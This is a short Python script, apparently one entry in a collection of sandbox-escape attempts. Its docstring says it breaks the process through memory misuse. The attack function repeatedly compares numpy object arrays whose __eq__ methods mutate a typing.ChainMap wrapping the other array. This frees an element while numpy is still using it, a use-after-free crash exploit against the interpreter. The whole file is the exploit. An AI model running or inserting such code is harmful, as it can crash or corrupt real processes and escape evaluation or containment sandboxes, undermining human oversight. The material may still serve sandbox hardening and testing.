"""Class: memory. Source: own find. Escape: the process breaks: the alias of `typing` makes the library's own
ChainMap, which frees what an array of Python objects holds while numpy compares it."""

import typing

import numpy as np


class Changing:
    def __eq__(self, other):
        places[0].update({0: None})
        return NotImplemented

    __hash__ = None


class Long:
    def __init__(self):
        self.items = list(range(50))

    def __eq__(self, other):
        return len(repr(self.items)) > 3

    __hash__ = None


places = [None]


def attack(model, tokenizer, address):
    for make in (typing.ChainMap, typing.ChainMap[int, object]):
        for _ in range(500):
            one = np.fromiter([Changing()], dtype=object)
            other = np.fromiter([Long()], dtype=object)
            places[0] = make(other)
            try:
                one == other
            except Exception:
                pass
